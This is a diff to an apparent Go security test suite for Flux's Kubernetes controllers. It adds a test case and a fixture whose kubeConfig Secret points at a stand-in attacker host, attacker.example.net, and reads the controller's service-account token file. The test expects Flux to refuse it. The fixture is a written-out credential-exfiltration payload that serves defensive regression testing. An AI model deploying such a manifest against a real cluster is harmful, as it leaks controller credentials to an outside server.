@@ -132,6 +132,13 @@ func kustomizationAttacks() []attack {
 			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
 		},
 		{
+			name:          "Kustomization: kubeConfig Secret of the tenant's own server, with the controller's token file",
+			with:          ownServerByTokenFile,
+			kustomization: `{kubeConfig: {secretRef: {name: "${id}"}}}`,
+			steals:        true,
+			always:        refusal{byFlux, "references a tokenFile, only an inline token is supported"},
+		},
+		{
 			name:          "Kustomization: kubeConfig ConfigMap without serviceAccountName, of the tenant's own server",
 			with:          ownServer,
 			kustomization: `{kubeConfig: {configMapRef: {name: "${id}"}}}`,
@@ -141,6 +148,10 @@ func kustomizationAttacks() []attack {
 		},
 	}
 }
+
+// ownServerByTokenFile has Flux take the attackers' server for an API server, and send
+// it the controller's own token.
+const ownServerByTokenFile = `{apiVersion: v1, kind: Secret, metadata: {name: "${id}", namespace: "${me}"}, stringData: {value: '{apiVersion: v1, kind: Config, current-context: x, clusters: [{name: x, cluster: {server: "https://attacker.example.net/${me}/${id}", certificate-authority-data: ${attackerCAData}}}], users: [{name: x, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}], contexts: [{name: x, context: {cluster: x, user: x}}]}'}}`
 
 // ownServer has Flux take the attackers' server for an API server, and send it a
 // token of nobody in particular.
